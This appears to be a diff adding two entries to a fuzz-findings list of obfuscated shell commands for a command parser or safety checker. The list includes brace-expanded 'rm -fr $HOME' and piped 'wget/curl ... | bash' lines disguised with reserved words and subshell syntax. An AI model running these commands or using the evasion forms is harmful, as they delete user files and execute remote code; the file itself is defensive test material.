@@ -297,6 +297,8 @@ _FUZZ_FOUND = [
     ('echo "$(echo "$({rm,-fr,$HOME})")"', "nested broken strings"),
     ("f() { {{rm,},-r,-f,~/}; }; f", "glued braces in a function body"),
     ("[[ $({wget,} -qO- x | {bash,}) ]]", "a pipe inside a substitution among loose nodes"),
+    ("time coproc c { { wget -qO- x | bash; }; }", "reserved words in a row"),
+    ("echo $(( 'curl' -s x | sh ) 2>&1)", "$(( that is no arithmetic is a substitution of a subshell"),
 ]
 
 
